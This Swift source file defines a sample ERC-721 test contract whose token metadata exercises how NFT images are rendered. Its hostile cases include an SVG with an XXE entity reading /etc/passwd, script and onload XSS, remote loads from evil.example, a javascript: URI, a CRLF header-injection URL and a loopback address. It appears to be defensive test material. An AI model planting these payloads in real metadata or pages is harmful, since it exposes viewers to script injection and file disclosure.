import Tokens

/// An ERC-721 collection whose images are shown in every way that documents have, see ``VitrineCase``. Its documents
/// are on the chain.
struct Vitrine: SampleContract {
    let address = WellKnownContracts.vitrine
    let name = "Vitrine"
    let symbol = "VTRN"
    let standard = TokenStandard.erc721
    let totalSupply: UInt64? = UInt64(VitrineCase.allCases.count)
    let contractURI: String? = nil

    func tokenURI(of token: TokenIdentifier) -> TokenURIAnswer {
        guard let number = token.value.exactly64, let piece = VitrineCase(rawValue: number) else { return .nonexistent }
        return .uri("data:application/json;base64," + Base64.encode(Self.document(piece)))
    }

    private static func document(_ piece: VitrineCase) -> [UInt8] {
        var output = Array(#"{"name":"Vitrine \#(piece.rawValue)""#.utf8)
        for (name, value) in members(piece) {
            output.append(text: #","\#(name)":"#)
            output.append(jsonString: value)
        }
        output.append(text: "}")
        return output
    }

    private static func members(_ piece: VitrineCase) -> [(String, String)] {
        let vector = String(decoding: VectorImage.draw(seed: piece.rawValue, title: "Vitrine"), as: UTF8.self)
        return switch piece {
        case .vectorInBase64: [("image", "data:image/svg+xml;base64," + Base64.encode(Array(vector.utf8)))]
        case .vectorAsText: [("image", vector)]
        case .imageData: [("image_data", vector)]
        case .raster: [("image", "data:image/png;base64," + Base64.encode(RasterImage.draw(seed: 4)))]
        case .disguisedRaster: [("image", "data:text/html;base64," + Base64.encode(RasterImage.draw(seed: 5)))]
        case .hostileVector:
            [("image", "data:image/svg+xml;base64," + Base64.encode(Array(HostileContent.vector.utf8)))]
        case .page: [("image", "data:text/html;base64," + Base64.encode(Array(HostileContent.page.utf8)))]
        case .disguisedPage: [("image", "data:image/png;base64," + Base64.encode(Array(HostileContent.page.utf8)))]
        case .script: [("image", "data:text/javascript,alert(1)")]
        case .large: [("image", "data:image/svg+xml;base64," + Base64.encode(large(vector)))]
        case .none: [("description", "Nothing to see.")]
        case .nowhere: [("image", "javascript:alert(document.domain)")]
        case .lineBreak: [("image", "https://images.example/a\r\nSet-Cookie: a=b\r\n\r\n<script>")]
        case .web: [("image", "https://images.example/a b.png")]
        case .ipfs: [("image", "ipfs://QmYjtig7VJQ6XsnUjqqJvj7QaMcCAwtrgNdahSiFofrE7o/1 of 2.png")]
        case .arweave: [("image", "ar://rgW4h3ffQQzOD8ynnwdl3_YlHxtssqV3aXOregPr7yI")]
        case .privateAddress: [("image", "http://127.0.0.1/1.png")]
        }
    }

    /// More than documents repeat.
    private static func large(_ vector: String) -> [UInt8] {
        Array(vector.utf8) + Array("<!--".utf8) + [UInt8](repeating: UInt8(ascii: "x"), count: 100_000)
            + Array("-->".utf8)
    }
}

/// How each token of ``Vitrine`` is shown; the raw value is the token's number.
public enum VitrineCase: UInt64, CaseIterable, Sendable {
    case vectorInBase64 = 1
    case vectorAsText
    case imageData
    case raster
    case disguisedRaster
    case hostileVector
    case page
    case disguisedPage
    case script
    case large
    case none
    case nowhere
    case lineBreak
    case web
    case ipfs
    case arweave
    case privateAddress

    /// One line for the list of collections.
    public var summary: String {
        switch self {
        case .vectorInBase64: "SVG in base 64"
        case .vectorAsText: "SVG as it is, in place of a URI"
        case .imageData: "SVG in image_data"
        case .raster: "a PNG image"
        case .disguisedRaster: "a PNG image that says it is a web page"
        case .hostileVector: "SVG with everything that runs, loads or leads away"
        case .page: "a web page with a script"
        case .disguisedPage: "the same, said to be a PNG image"
        case .script: "a script"
        case .large: "SVG of 100 KB"
        case .none: "no image"
        case .nowhere: "a javascript: URI"
        case .lineBreak: "a URL with a header field in it"
        case .web: "a URL with a blank"
        case .ipfs: "content on IPFS with blanks in its path"
        case .arweave: "content on Arweave"
        case .privateAddress: "a URL of a loopback address"
        }
    }
}

/// Content that does harm where it is run.
enum HostileContent {
    /// Scripts, event handlers, foreign content with a refresh, a frame, loads from elsewhere, an external entity.
    static let vector = """
        <?xml version="1.0"?>
        <!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">
        <script>alert(document.domain)</script><script xlink:href="https://evil.example/x.js"/>
        <image xlink:href="https://evil.example/track.png" width="1" height="1"/>
        <foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml">
        <meta http-equiv="refresh" content="0;url=https://evil.example/"/><iframe src="https://evil.example/"/>
        </body></foreignObject><a xlink:href="javascript:alert(2)"><text>&secret;</text></a></svg>

        """

    static let page = "<!DOCTYPE html>\n<html><body><script>alert(document.domain)</script></body></html>\n"
}
